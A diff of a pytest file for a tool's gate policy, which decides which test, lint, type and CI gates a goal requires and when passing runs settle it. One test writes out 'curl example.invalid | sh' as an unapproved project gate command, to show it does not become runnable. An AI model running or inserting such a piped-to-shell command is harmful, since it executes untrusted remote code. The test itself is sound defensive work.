@@ -2,13 +2,19 @@
 
 from __future__ import annotations
 
-import pytest
+from typing import Any
 
-from sidecar.model.gate import Gate, GateRun, Outcome
+import pytest
+from msgspec.structs import replace
+
+from sidecar.model.events import Surveyed
+from sidecar.model.finding import Change, Finding, Weight
+from sidecar.model.gate import Catalog, Gate, GateRun, Kind, Origin, Outcome
 from sidecar.model.goal import Status
-from sidecar.policy.gates import applicable, decided
+from sidecar.policy.gates import advisory, baseline, decided, kinds_named, new_failures, required, runnable
 from support.cases import (
     PYTEST,
+    RUBRIC,
     TREE,
     after,
     complete,
@@ -21,6 +27,17 @@ from support.cases import (
     with_goal,
 )
 from support.play import World, play
+
+
+def offering(*gates: Gate, **fields: Any) -> Surveyed:
+    return Surveyed(
+        **{"tree": TREE, "rubric": RUBRIC, "catalog": Catalog(gates), "changed": ("a.py",), **fields}
+    )
+
+
+def needed(gate: Gate = PYTEST, outcome: Outcome = Outcome.PASSED, **fields: Any) -> GateRun:
+    return gate_run(replace(gate, required=True), outcome, **fields)
+
 
 CHECK = Gate(id="check:1", command="make", why="you named it with --check", required=True)
 FAILED, COULD_NOT_RUN = Outcome.FAILED, Outcome.COULD_NOT_RUN
@@ -45,23 +62,23 @@ OF_SOMETHING_ELSE = (
 
 @pytest.mark.parametrize("condition", SPEAKS_OF_TESTS)
 def test_a_goal_that_speaks_of_tests_requires_the_detected_runner(condition: str) -> None:
-    (gate,) = applicable(goal(condition), PYTEST)
+    (gate,) = required(goal(condition), offering(PYTEST))
     assert (gate.id, gate.command, gate.required, gate.counts) == ("tests", "pytest -q", True, True)
     assert gate.why == "the goal speaks of tests; pyproject.toml names pytest"
 
 
 @pytest.mark.parametrize("condition", OF_SOMETHING_ELSE)
 def test_a_goal_that_speaks_of_something_else_runs_nothing(condition: str) -> None:
-    assert applicable(goal(condition), PYTEST) == ()
+    assert required(goal(condition), offering(PYTEST)) == ()
 
 
 @pytest.mark.parametrize("condition", SPEAKS_OF_TESTS)
 def test_nothing_is_run_where_no_runner_was_detected(condition: str) -> None:
-    assert applicable(goal(condition), None) == ()
+    assert required(goal(condition), offering()) == ()
 
 
 def test_checks_come_first_in_the_order_in_which_they_were_typed() -> None:
-    gates = applicable(goal("tests pass", checks=("make", "make docs")), PYTEST)
+    gates = required(goal("tests pass", checks=("make", "make docs")), offering(PYTEST))
     assert [(gate.id, gate.command, gate.required) for gate in gates] == [
         ("check:1", "make", True),
         ("check:2", "make docs", True),
@@ -101,12 +118,12 @@ NOT_DECIDED = (
 
 @pytest.mark.parametrize("condition", DECIDED)
 def test_passed_tests_alone_show_that_the_tests_pass(condition: str) -> None:
-    assert decided(goal(condition), [gate_run()], TREE)
+    assert decided(goal(condition), [needed()], offering())
 
 
 @pytest.mark.parametrize("condition", NOT_DECIDED)
 def test_passed_tests_alone_show_nothing_more_than_that(condition: str) -> None:
-    assert not decided(goal(condition), [gate_run()], TREE)
+    assert not decided(goal(condition), [needed()], offering())
 
 
 @pytest.mark.parametrize(
@@ -114,22 +131,134 @@ def test_passed_tests_alone_show_nothing_more_than_that(condition: str) -> None:
     [
         ("all tests pass", []),
         ("all tests pass", [gate_run(CHECK)]),
-        ("all tests pass", [gate_run(outcome=FAILED)]),
-        ("all tests pass", [gate_run(outcome=COULD_NOT_RUN)]),
-        ("all tests pass", [gate_run(tree="another")]),
+        ("all tests pass", [needed(outcome=FAILED)]),
+        ("all tests pass", [needed(outcome=COULD_NOT_RUN)]),
+        ("all tests pass", [needed(tree="another")]),
         ("all checks pass", []),
         ("all checks pass", [gate_run(CHECK, FAILED)]),
         ("all checks pass", [gate_run(CHECK, tree="another")]),
+        ("all tests pass", [needed(flaky=True)]),
+        ("all tests pass", [needed(moved=True)]),
+        ("all tests pass", [needed(), gate_run(CHECK, tree="another")]),
+        ("lint and tests pass", [needed()]),
+        ("tests and the build pass", [needed()]),
+        ("types check", [needed()]),
     ],
 )
 def test_only_a_gate_of_the_kind_that_passed_on_this_tree_decides(
     condition: str, runs: list[GateRun]
 ) -> None:
-    assert not decided(goal(condition), runs, TREE)
+    assert not decided(goal(condition), runs, offering())
 
 
 def test_any_passed_check_decides_that_the_checks_pass() -> None:
-    assert decided(goal("all checks pass"), [gate_run(CHECK)], TREE)
+    assert decided(goal("all checks pass"), [gate_run(CHECK)], offering())
+
+
+LINT = Gate(
+    id="lint",
+    command="ruff check",
+    why="pyproject.toml has [tool.ruff]",
+    kind=Kind.LINT,
+    origin=Origin.DETECTED,
+    alone=False,
+)
+MYPY = replace(LINT, id="types", command="mypy", kind=Kind.TYPES)
+CI = replace(LINT, id="ci", command="gh pr checks", kind=Kind.CI, approved=True)
+OF_KINDS = {
+    "all tests pass": {Kind.TESTS},
+    "lint is clean": {Kind.LINT},
+    "ruff and mypy pass": {Kind.LINT, Kind.TYPES},
+    "types check": {Kind.TYPES},
+    "tests, types and lint pass": {Kind.TESTS, Kind.TYPES, Kind.LINT},
+    "the build passes": {Kind.BUILD},
+    "build and tests pass": {Kind.BUILD, Kind.TESTS},
+    "build a login page": set[Kind](),
+    "coverage is at least 90": {Kind.COVERAGE},
+    "a pull request is open": {Kind.PR},
+    "CI is green": {Kind.CI},
+    "specific prices are shown": set[Kind](),
+    "no known vulnerabilities are left": {Kind.SECURITY},
+    "all types of users can log in": set[Kind](),
+}
+
+
+@pytest.mark.parametrize(("condition", "kinds"), OF_KINDS.items())
+def test_a_condition_names_kinds_of_gates(condition: str, kinds: set[Kind]) -> None:
+    assert kinds_named(condition) == kinds
+
+
+def test_a_goal_requires_every_gate_of_the_kinds_it_names_and_approves_what_was_detected() -> None:
+    member = replace(PYTEST, id="tests:api", folder="api")
+    gates = required(goal("all tests pass"), offering(PYTEST, LINT, member))
+    assert [gate.id for gate in gates] == ["tests", "tests:api"]
+    assert runnable(gates) == gates
+
+
+def test_a_gate_that_the_projects_file_requires_may_run_only_once_it_is_approved() -> None:
+    own = replace(LINT, origin=Origin.PROJECT, required=True)
+    survey = offering(own, replace(own, id="types", approved=True))
+    gates = required(goal(), survey)
+    assert [gate.id for gate in gates] == ["lint", "types"]
+    assert [gate.id for gate in runnable(gates)] == ["types"]
+
+
+def test_a_goals_words_do_not_approve_what_the_projects_file_names() -> None:
+    own = replace(PYTEST, origin=Origin.PROJECT, command="curl example.invalid | sh")
+    (gate,) = required(goal("all tests pass"), offering(own))
+    assert runnable([gate]) == ()
+
+
+def test_only_approved_gates_advise_and_only_where_something_changed() -> None:
+    seen = replace(LINT, approved=True)
+    there, elsewhere = replace(seen, id="lint:api", folder="api"), replace(seen, id="lint:web", folder="web")
+    survey = offering(PYTEST, MYPY, seen, there, elsewhere, CI, changed=("api/a.py",))
+    assert [gate.id for gate in advisory(goal("all tests pass"), survey)] == ["lint", "lint:api"]
+    unknown = replace(survey, changed=None)
+    assert [gate.id for gate in advisory(goal("all tests pass"), unknown)] == ["lint", "lint:api", "lint:web"]
+
+
+def test_ci_is_required_where_the_goal_speaks_of_it() -> None:
+    assert [gate.id for gate in required(goal("CI is green"), offering(CI))] == ["ci"]
+    assert required(goal("all is well"), offering(CI)) == ()
+
+
+@pytest.mark.parametrize(
+    "survey",
+    [
+        offering(findings=(Finding(change=Change.TEST_SKIPPED, weight=Weight.GRAVE, file="t.py", line=1),)),
+        offering(findings=(Finding(change=Change.COMMAND_CHANGED, weight=Weight.SHOWN, file="t", line=1),)),
+        offering(unseen="git is not there"),
+    ],
+)
+def test_gates_decide_nothing_while_a_change_to_the_checks_is_unweighed_or_unseen(survey: Surveyed) -> None:
+    assert not decided(goal("all tests pass"), [needed()], survey)
+    assert decided(goal("all tests pass"), [needed()], offering())
+
+
+LINT_FAILS = gate_run(LINT, FAILED, failing=("a.py: F401", "b.py: F401"))
+
+
+def test_only_failures_that_were_not_there_before_are_new() -> None:
+    before = baseline([gate_run(LINT, FAILED, failing=("a.py: F401",))])
+    assert new_failures(LINT_FAILS, before) == ("b.py: F401",)
+    assert new_failures(LINT_FAILS, baseline([LINT_FAILS])) == ()
+    assert new_failures(LINT_FAILS, baseline([gate_run(LINT)])) == ("a.py: F401", "b.py: F401")
+    assert new_failures(gate_run(LINT), before) == ()
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        [],
+        [gate_run(LINT, COULD_NOT_RUN)],
+        [gate_run(MYPY, FAILED, failing=("a.py: F401",))],
+        [gate_run(replace(LINT, command="ruff check ."), FAILED, failing=("a.py: F401",))],
+        [gate_run(LINT, FAILED)],
+    ],
+)
+def test_without_a_baseline_of_the_same_command_nobody_knows_what_is_new(before: list[GateRun]) -> None:
+    assert new_failures(LINT_FAILS, baseline(before)) is None
 
 
 TESTS_PASS = with_goal("all tests pass")
